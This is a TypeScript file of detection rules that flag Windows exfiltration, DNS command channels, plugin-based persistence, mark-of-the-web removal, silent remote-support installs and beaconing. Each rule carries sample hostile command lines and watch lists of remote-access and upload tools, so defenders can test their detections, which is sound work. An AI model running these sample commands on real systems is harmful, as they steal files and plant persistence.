/** Data on its way out of a Windows machine, channels to outside, and what is put into servers and programs to stay. */
import { behaviour, byTool } from './behaviour.ts';
import { hostClass, isWritablePlace } from './places.ts';
import { all, arg, holds, onProcess, onText, said, type Row } from './row.ts';

export const WINDOWS_TAKES: readonly Row[] = [
  behaviour('collection-archive', ['collection', 'T1560.001', 'collection', 'low', 'medium'], {
    reason: 'Folders of users are packed into one archive.',
    benign: ['backups'],
    hits: [
      'powershell "Compress-Archive -Path C:\\Users\\jd\\Documents -DestinationPath $env:TEMP\\a.zip"',
      'rar a -r C:\\x.rar C:\\Users\\jd\\*.docx',
    ],
    misses: ['powershell "Compress-Archive -Path build -DestinationPath dist.zip"'],
    look: onProcess(['compress-archive', 'rar', '7z', '7za', 'makecab', 'winrar', 'tar'], ({ args }, { os }) =>
      os === 'windows'
        ? args.find(({ lower }) =>
            /\\users\\[^\\]+\\(?:documents|desktop|\*)|\.docx?$|\.xlsx?$|\$env:userprofile|%userprofile%/.test(lower),
          )
        : undefined,
    ),
  }),
  behaviour('cloud-upload', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'medium'], {
    reason: 'Files are copied to cloud storage or sent by a transfer tool.',
    benign: ['backups to the cloud'],
    hits: ['megacmd put C:\\x.zip', 'winscp.com /command "open ftp://a:b@203.0.113.9" "put C:\\x.zip"'],
    misses: ['winscp.com /help'],
    look: byTool(
      [
        [
          'megacmd',
          'mega-put',
          'megatools',
          'megaput',
          'megasync',
          'filezilla',
          'pcloud',
          'restic',
          'gdrive',
          'dropbox_uploader',
        ],
        (process) => process.args[0],
      ],
      [['winscp'], holds('put', 'synchronize')],
    ),
  }),
  behaviour('dns-channel', ['dns-channel', 'T1071.004', 'command-and-control', 'medium', 'medium'], {
    reason: 'Names are looked up that carry data or commands (text records, long or made-up names, a chosen server).',
    benign: ['checks of mail settings'],
    hits: [
      'powershell "1..100 | % { Resolve-DnsName -type TXT \\"a$(Get-Random).example.net\\" }"',
      'nslookup -q=txt a.example.net 203.0.113.9',
    ],
    misses: ['nslookup a.example.net', 'powershell "Resolve-DnsName corp.example"'],
    look: onProcess(['resolve-dnsname', 'nslookup', 'dig'], (process, { layers }) => {
      const words = said(process);
      return /(?:^|\s)(?:-(?:q|type|querytype)[= ]?)?txt(?:\s|$)|-querytype=txt|-q=txt|-type=txt/.test(words) &&
        /get-random|\$\(|foreach|for \(|\{|for \/f|iex|\d+\.\d+\.\d+\.\d+|\|/.test(layers[process.layer]?.lower ?? '')
        ? process.args[0]
        : undefined;
    }),
  }),
  behaviour('plugin-install', ['persistence-plugin', 'T1505', 'persistence', 'medium', 'medium'], {
    reason:
      'A part is put into a server or program that then runs it (a mail agent, a web module, a compatibility patch, a start hook).',
    benign: ['installation of the product that it belongs to'],
    hits: [
      'appcmd.exe install module /name:a /image:C:\\x\\a.dll',
      'sdbinst.exe C:\\ProgramData\\a.sdb',
      'powershell "Install-TransportAgent -Name a -TransportAgentFactory b -AssemblyPath c"',
      'set DOTNET_STARTUP_HOOKS=C:\\x\\a.dll',
    ],
    misses: ['appcmd list site', 'sdbinst -u a.sdb'],
    look: byTool(
      [['appcmd'], all(arg(/^(?:install|add)$/), arg(/^module/))],
      [
        ['sdbinst'],
        ({ args }) =>
          args.find(({ lower }) => /\.sdb["']?$/.test(lower) && !args.some(({ lower: flag }) => flag === '-u')),
      ],
      [
        ['install-transportagent', 'enable-transportagent', 'new-webglobalmodule', 'enable-webglobalmodule'],
        (process) => process,
      ],
      [
        ['set', 'setx', 'export'],
        ({ args }) =>
          args.find(({ lower }) =>
            /^"?(?:dotnet_startup_hooks|cor_enable_profiling|cor_profiler|coreclr_profiler|complus_|__psLockdownPolicy|java_tool_options|psmodulepath)=/i.test(
              lower,
            ),
          ),
      ],
    ),
  }),
  behaviour('trust-marks-off', ['trust', 'T1553.005', 'defense-evasion', 'medium', 'medium'], {
    reason: 'The mark that says a file came from the internet is removed, or an image is mounted that carries none.',
    benign: ['administrators unblock a script'],
    hits: [
      'powershell "Unblock-File -Path C:\\Users\\jd\\Downloads\\a.exe"',
      'powershell "Mount-DiskImage -ImagePath C:\\Users\\jd\\Downloads\\a.iso"',
    ],
    misses: ['powershell "Get-Item a -Stream *"', 'certutil -store root'],
    look: byTool(
      [['unblock-file'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
      [['mount-diskimage'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
    ),
  }),
  behaviour('remote-support-tool', ['remote-access', 'T1219', 'command-and-control', 'medium', 'high'], {
    reason: 'A remote support program is set up without a window or with a password in the line.',
    benign: ['roll-out of the support tool of the company'],
    hits: [
      'C:\\ProgramData\\anydesk.exe --set-password',
      'cmd /c echo x | anydesk.exe --set-password',
      'msiexec /i ScreenConnect.ClientSetup.msi /qn',
      'anydesk.exe --install C:\\x --silent',
    ],
    misses: ['"C:\\Program Files\\AnyDesk\\AnyDesk.exe" --tray'],
    look: onText(
      [
        'anydesk',
        'screenconnect',
        'rustdesk',
        'atera',
        'splashtop',
        'ammyy',
        'ultraviewer',
        'meshagent',
        'tacticalrmm',
        'remoteutilities',
        'netsupport',
        'connectwise',
        'dwagent',
        'action1',
        'supremo',
        'simplehelp',
        'dameware',
        'radmin',
        'tightvnc',
        'ultravnc',
        'logmein',
      ],
      ({ lower }) =>
        /--set-password|--silent|\/qn|--password|-silent|\/s\b|\/verysilent|-fullinstall|integratorlogin|--get-id|--install|\/quiet|downloadfile|outfile|invoke-webrequest|curl/.test(
          lower,
        ),
    ),
  }),
  behaviour('rule-of-fetch-address', ['beacon', 'T1071.001', 'command-and-control', 'medium', 'low'], {
    reason: 'A command line tool calls a bare address in a loop, or pretends to be a browser.',
    benign: ['tests of a site'],
    hits: ['powershell "while($true){iwr http://203.0.113.9/a}"', 'curl -s -A "Mozilla/5.0" http://203.0.113.9/'],
    misses: ['curl https://api.corp.example/'],
    look: onProcess(['curl', 'wget', 'invoke-webrequest', 'invoke-restmethod'], (process, { layers }) => {
      const url = process.args.find(({ role }) => role === 'url');
      const isOdd = url !== undefined && /^(?:ip|integer-ip|dynamic-dns|tunnel)$/.test(hostClass(url.lower));
      return isOdd &&
        (process.args.some(({ lower }) => /^(?:-a|--user-agent|-useragent)$/.test(lower)) ||
          /while ?\(|for ?\(\$i|for ?\(;;/.test(layers[process.layer]?.lower ?? ''))
        ? url
        : undefined;
    }),
  }),
];
